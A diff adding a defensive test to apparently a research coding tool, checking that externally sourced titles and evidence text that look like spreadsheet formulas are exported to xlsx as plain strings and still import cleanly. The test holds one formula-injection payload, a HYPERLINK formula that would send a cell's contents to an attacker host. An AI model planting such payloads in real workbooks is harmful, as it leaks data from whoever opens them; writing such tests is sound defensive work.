@@ -269,3 +269,26 @@ def test_file_survives_libreoffice_resave(tmp_path):
     alice = coding.code_table(store, book)["alice"]
     assert alice["item-3"]["colour"] == ["green"] and alice["item-4"]["tags"] == ["soft", "big"]
     assert alice["item-1"]["colour"] == ["red"]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path):
+    # model responses and titles come from outside: "=HYPERLINK(...)" must not become a live
+    # formula in a coder's workbook, and the round trip must still work
+    store = Store(tmp_path / "s.sqlite")
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Click to see the full text")'
+    coding.register_units(store, "item", [
+        coding.Unit("item-1", display={"title": hostile, "size": 1},
+                    evidence=[{"evidence_id": "e1", "text": "+1 and -1 and @sum"}], position=1),
+    ])
+    book = tiny_codebook()
+    path = tmp_path / "alice.xlsx"
+    coding.export_xlsx(store, book, "alice", path)
+    wb = load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
+    assert any(c.value == hostile for c in cells)
+    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.value) for c in cells
+                                                   if c.data_type != "s"]
+    fill(path, {("item-1", "colour"): "red"})
+    report = coding.import_file(store, path, codebook=book)
+    assert report.n_changed == 1 and not report.warnings
